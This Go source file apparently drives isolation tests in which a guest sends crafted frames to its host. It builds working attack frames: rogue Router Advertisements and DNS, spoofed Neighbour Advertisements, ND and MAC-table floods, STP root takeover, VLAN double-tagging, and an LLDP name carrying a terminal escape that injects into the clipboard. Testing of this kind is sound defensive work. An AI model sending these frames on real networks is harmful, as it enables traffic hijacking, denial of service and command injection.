package main

import (
	"bytes"
	"net/netip"
	"slices"
	"strings"
)

var (
	allNodes    = netip.MustParseAddr("ff02::1")
	allRouters  = netip.MustParseAddr("ff02::2")
	badPrefix   = netip.MustParseAddr("2001:db8:bad::")
	allIPv4     = netip.MustParseAddr("255.255.255.255")
	allHosts    = netip.MustParseAddr("224.0.0.1")
	outside     = netip.MustParseAddr("203.0.113.9")
	outside6    = netip.MustParseAddr("2001:db8:ffff::9")
	noAddress6  = netip.IPv6Unspecified()
	stpGroup    = mac{0x01, 0x80, 0xc2, 0, 0, 0}
	lldpGroup   = mac{0x01, 0x80, 0xc2, 0, 0, 0x0e}
	pauseGroup  = mac{0x01, 0x80, 0xc2, 0, 0, 0x01}
	slowGroup   = mac{0x01, 0x80, 0xc2, 0, 0, 0x02}
	portAccess  = mac{0x01, 0x80, 0xc2, 0, 0, 0x03}
	sourceLayer = byte(1) // the option "source link-layer address" of neighbour discovery
	targetLayer = byte(2)
)

// ipv6Frames is what the host's IPv6 would believe.
var ipv6Frames = []attack{
	{
		"frames/ra",
		"a Router Advertisement with prefix, route, MTU and DNS server: a global address and a route for the host",
		once(routerAdvertisement),
	},
	{
		"frames/ra-unicast", "the same to the host's own MAC address, with high preference and more routes",
		once(unicastAdvertisement),
	},
	{
		"frames/ra-flood", "2000 Router Advertisements with a prefix each",
		flood(2000, func(_ *guest, i uint32) []byte {
			prefix := badPrefix.As16()
			copy(prefix[6:], be16(uint16(i)))
			m := numbered(i)
			return icmp6(
				group6(allNodes),
				m,
				linkLocal(m),
				allNodes,
				134,
				raHead,
				lladdr(sourceLayer, m),
				prefixOption(netip.AddrFrom16(prefix)),
			)
		}),
	},
	{
		"frames/na", "Neighbour Advertisements that override whoever has the host's addresses",
		once(neighbourAdvertisements),
	},
	{"frames/rs", "Router Solicitations, which a host that routes would answer", once(func(g *guest) [][]byte {
		return [][]byte{
			icmp6(
				group6(allRouters),
				g.self,
				linkLocal(g.self),
				allRouters,
				133,
				be32(0),
				lladdr(sourceLayer, g.self),
			),
			icmp6(g.hostMAC, g.self, noAddress6, allRouters, 133, be32(0)),
		}
	})},
	{
		"frames/nd-flood", "5000 Neighbour Solicitations of as many senders: the host's IPv6 neighbour table",
		flood(5000, func(g *guest, i uint32) []byte {
			m, host := numbered(i), linkLocal(g.hostMAC)
			return icmp6(g.hostMAC, m, linkLocal(m), host, 135, be32(0), host.AsSlice(), lladdr(sourceLayer, m))
		}),
	},
	{"frames/redirect6", "ICMPv6 redirects in the name of a router", once(func(g *guest) [][]byte {
		body := slices.Concat(
			be32(0),
			linkLocal(g.self).AsSlice(),
			outside6.AsSlice(),
			lladdr(targetLayer, g.self),
		)
		return [][]byte{icmp6(g.hostMAC, g.self, linkLocal(g.self), linkLocal(g.hostMAC), 137, body)}
	})},
	{"frames/dhcpv6", "DHCPv6 ADVERTISE and REPLY that nobody asked for", once(func(g *guest) [][]byte {
		dst := linkLocal(g.hostMAC)
		body := slices.Concat(
			[]byte{7, 1, 2, 3},
			be16(2),
			be16(10),
			[]byte{0, 3, 0, 1},
			g.self[:],
			be16(23),
			be16(16),
			linkLocal(g.self).AsSlice(),
		)
		d := slices.Concat(be16(547), be16(546), be16(uint16(8+len(body))), be16(0), body)
		copy(d[6:], be16(checksum(pseudo(linkLocal(g.self), dst, protoUDP, len(d)), d)))
		return [][]byte{ipv6(g.hostMAC, g.self, linkLocal(g.self), dst, protoUDP, d)}
	})},
	{"frames/mld", "MLD queries and reports for 2000 groups", flood(2000, func(g *guest, i uint32) []byte {
		group := netip.AddrFrom16(
			[16]byte{0: 0xff, 1: 0x02, 12: byte(i >> 24), 13: byte(i >> 16), 14: byte(i >> 8), 15: byte(i)},
		)
		return icmp6(group6(group), g.self, linkLocal(g.self), group, 131-byte(i%2), be32(0), group.AsSlice())
	})},
}

// bridgeFrames is what the host's bridge would believe, or would have to remember.
var bridgeFrames = []attack{
	{
		"frames/stp", "a BPDU of priority 0: the root of the host's bridge",
		once(func(g *guest) [][]byte { return [][]byte{bpdu(g.self)} }),
	},
	{"frames/stp-change", "5000 topology changes of as many roots", flood(5000, func(_ *guest, i uint32) []byte {
		if i%2 == 0 {
			return ether(stpGroup, numbered(i), 0, be16(7), []byte{0x42, 0x42, 3, 0, 0, 0, 0x80}, make([]byte, 39))
		}
		return bpdu(numbered(i))
	})},
	{"frames/lldp", "LLDP of a machine with an escape sequence for a name", once(func(g *guest) [][]byte {
		name := []byte("\x1b]52;c;bHM=\x07" + strings.Repeat("a", 120))
		return [][]byte{
			ether(
				lldpGroup,
				g.self,
				typeLLDP,
				[]byte{2, 7, 4},
				g.self[:],
				[]byte{4, 2, 7, 'x', 6, 2, 0, 120, 10, byte(len(name))},
				name,
				[]byte{0, 0},
			),
		}
	})},
	{"frames/link-control", "pause frames, LACP and EAPOL to the reserved groups", once(func(g *guest) [][]byte {
		return [][]byte{
			ether(pauseGroup, g.self, 0x8808, []byte{0, 1, 0xff, 0xff}, make([]byte, 42)),
			ether(slowGroup, g.self, 0x8809, []byte{1, 1}, make([]byte, 108)),
			ether(portAccess, g.self, 0x888e, []byte{1, 1, 0, 0}, make([]byte, 42)),
		}
	})},
	{
		"frames/vlan", "VLAN tags 0, 1, 100 and 4095 around ARP and Router Advertisements",
		once(func(g *guest) [][]byte { return tagged(g, typeVLAN) }),
	},
	{"frames/vlan-double", "two VLAN tags, the outer of either kind", once(func(g *guest) [][]byte {
		inner := slices.Concat(be16(1), be16(typeVLAN), be16(100))
		var frames [][]byte
		for _, outer := range []uint16{typeVLAN, typeQinQ} {
			for _, f := range plain(g) {
				frames = append(frames, slices.Concat(f[:12], be16(outer), inner, f[12:]))
			}
		}
		return frames
	})},
	{
		"frames/mac-flood", "10000 senders: the bridge's MAC table, which is kernel memory",
		flood(10000, func(g *guest, i uint32) []byte {
			return ether(g.self, numbered(i), 0x88b5, make([]byte, 46))
		}),
	},
	{
		"frames/mac-of-host", "frames from the host's own MAC address: the bridge's table",
		once(func(g *guest) [][]byte {
			return [][]byte{
				ether(broadcast, g.hostMAC, 0x88b5, make([]byte, 46)),
				arp(broadcast, g.hostMAC, arpRequest, g.hostMAC, g.host, mac{}, g.neighbour),
			}
		}),
	},
	{"frames/odd-senders", "senders that are groups, everybody, or nobody", once(func(g *guest) [][]byte {
		var frames [][]byte
		for _, from := range []mac{broadcast, {}, stpGroup, group4(allHosts), {0x33, 0x33, 0, 0, 0, 1}} {
			frames = append(
				frames,
				ether(broadcast, from, 0x88b5, make([]byte, 46)),
				ether(g.hostMAC, from, typeIPv4, make([]byte, 46)),
			)
		}
		return frames
	})},
	{"frames/runt", "frames that end in the middle of each header", once(func(g *guest) [][]byte {
		var frames [][]byte
		whole := udp(g.hostMAC, g.self, g.addr, g.host, 68, 67, make([]byte, 20))
		for size := 14; size < len(whole); size++ {
			frames = append(frames, whole[:size])
		}
		request := arp(g.hostMAC, g.self, arpRequest, g.self, g.addr, mac{}, g.host)
		for size := 15; size < len(request); size++ {
			frames = append(frames, request[:size])
		}
		return frames
	})},
	{"frames/jumbo", "frames as large as the card takes, with lengths in their headers that are larger", jumbo},
	{"frames/lengths", "IEEE 802.3 lengths, LLC and SNAP that do not fit", once(func(g *guest) [][]byte {
		var frames [][]byte
		for _, length := range []uint16{0, 1, 46, 1500, 1501, 1535} {
			frames = append(
				frames,
				ether(broadcast, g.self, 0, be16(length), []byte{0xaa, 0xaa, 3, 0, 0, 0, 8, 6}, make([]byte, 40)),
			)
		}
		return frames
	})},
}

// raHead is a router's hop limit of 64, a lifetime of 9000 s as default router, and no timers.
var raHead = slices.Concat([]byte{64, 0}, be16(9000), be32(0), be32(0))

func lladdr(kind byte, m mac) []byte { return append([]byte{kind, 1}, m[:]...) }

// prefixOption is a /64 that is on the link and that addresses are to be made of, for a day.
func prefixOption(p netip.Addr) []byte {
	return slices.Concat([]byte{3, 4, 64, 0xc0}, be32(86400), be32(86400), be32(0), p.AsSlice())
}

func routerAdvertisement(g *guest) [][]byte {
	dns := slices.Concat([]byte{25, 3, 0, 0}, be32(86400), linkLocal(g.self).AsSlice())
	mtu := slices.Concat([]byte{5, 1, 0, 0}, be32(1280))
	return [][]byte{
		icmp6(
			group6(allNodes),
			g.self,
			linkLocal(g.self),
			allNodes,
			134,
			raHead,
			lladdr(sourceLayer, g.self),
			mtu,
			prefixOption(badPrefix),
			dns,
		),
	}
}

func unicastAdvertisement(g *guest) [][]byte {
	head := slices.Concat([]byte{64, 0xc8}, be16(9000), be32(1000), be32(1000)) // managed, other, high preference
	route := slices.Concat([]byte{24, 2, 16, 0x08}, be32(86400), badPrefix.AsSlice()[:8])
	var frames [][]byte
	for _, dst := range []netip.Addr{allNodes, linkLocal(g.hostMAC)} {
		frames = append(
			frames,
			icmp6(
				g.hostMAC,
				g.self,
				linkLocal(g.self),
				dst,
				134,
				head,
				lladdr(sourceLayer, g.self),
				prefixOption(badPrefix),
				route,
			),
		)
	}
	return frames
}

func neighbourAdvertisements(g *guest) [][]byte {
	var frames [][]byte
	router := netip.MustParseAddr("fe80::1")
	for _, target := range []netip.Addr{linkLocal(g.hostMAC), linkLocal(g.neighbourMAC), router} {
		frames = append(
			frames,
			icmp6(
				group6(allNodes),
				g.self,
				target,
				allNodes,
				136,
				be32(0xa0000000),
				target.AsSlice(),
				lladdr(targetLayer, g.self),
			),
		)
	}
	return frames
}

// bpdu is a configuration BPDU of IEEE 802.1D by a root of the best priority.
func bpdu(root mac) []byte {
	id := append(be16(0), root[:]...)
	return ether(stpGroup, root, 0, be16(38), []byte{0x42, 0x42, 3, 0, 0, 0, 0, 1}, id, be32(0), id, be16(0x8001),
		be16(0), be16(20<<8), be16(2<<8), be16(15<<8))
}

// plain is what is put into tags: ARP for the host's address, and a Router Advertisement.
func plain(g *guest) [][]byte {
	return append(routerAdvertisement(g), arp(broadcast, g.self, arpReply, g.self, g.host, broadcast, g.host))
}

func tagged(g *guest, kind uint16) [][]byte {
	var frames [][]byte
	for _, id := range []uint16{0, 1, 100, 4095} {
		for _, f := range plain(g) {
			frames = append(frames, slices.Concat(f[:12], be16(kind), be16(0xe000|id), f[12:]))
		}
	}
	return frames
}

// full is a payload that fills the largest frame of a card.
func full(n int) []byte { return bytes.Repeat([]byte{0xa5}, n) }
